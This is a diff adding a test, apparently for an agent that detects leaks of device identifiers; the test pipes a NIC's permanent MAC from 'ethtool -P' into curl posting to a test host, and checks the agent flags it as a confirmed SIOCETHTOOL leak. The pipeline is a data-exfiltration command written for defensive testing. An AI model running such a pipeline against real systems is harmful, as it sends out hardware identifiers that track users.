@@ -38,6 +38,38 @@ print(mac)
         expect(host.veth in (a["identifiers"][0]["path"] or ""), "the interface in the path")
 
 
+def interface_with_a_permanent_address():
+    """A host interface whose driver reports a permanent MAC (a NIC; veth and dummy report none)."""
+    for name in sorted(os.listdir("/sys/class/net")):
+        r = subprocess.run(["ethtool", "-P", name], capture_output=True, text=True)
+        addr = r.stdout.strip().rsplit(" ", 1)[-1]
+        if r.returncode == 0 and addr.count(":") == 5 and addr != "00:00:00:00:00:00":
+            return name, addr
+    return None, None
+
+
+def test_permanent_mac_from_ethtool_piped_to_curl(host):
+    """`ethtool -P` asks SIOCETHTOOL/ETHTOOL_GPERMADDR; its output piped to curl is the leak."""
+    iface, addr = interface_with_a_permanent_address()
+    if not iface:
+        print("  skipped: no interface here reports a permanent address (veth and dummy do not)")
+        return
+    policy = """version: 1
+identifiers:
+  - name: mac-address
+    ioctls: [SIOCETHTOOL]
+""" + RULE
+    with Agent(policy_text=policy) as agent:
+        r = subprocess.run(["sh", "-c", "ethtool -P %s | curl -s -o /dev/null --max-time 5 "
+                            "--data-binary @- http://%s:8080/perm" % (iface, host.addr)],
+                           capture_output=True, timeout=30)
+        expect_eq(0, r.returncode, "the pipeline's status")
+        a = agent.wait_alert(process__comm="curl")
+    expect_eq("confirmed", a["confidence"], "confidence")
+    expect_eq("ioctl", a["identifiers"][0]["source"], "identifiers[].source")
+    expect_eq("SIOCETHTOOL ETHTOOL_GPERMADDR", a["identifiers"][0]["path"], "where the value came from")
+
+
 class FakeModem:
     """A modem on a pty pair: answers AT commands written to the slave, as a real one would."""
 
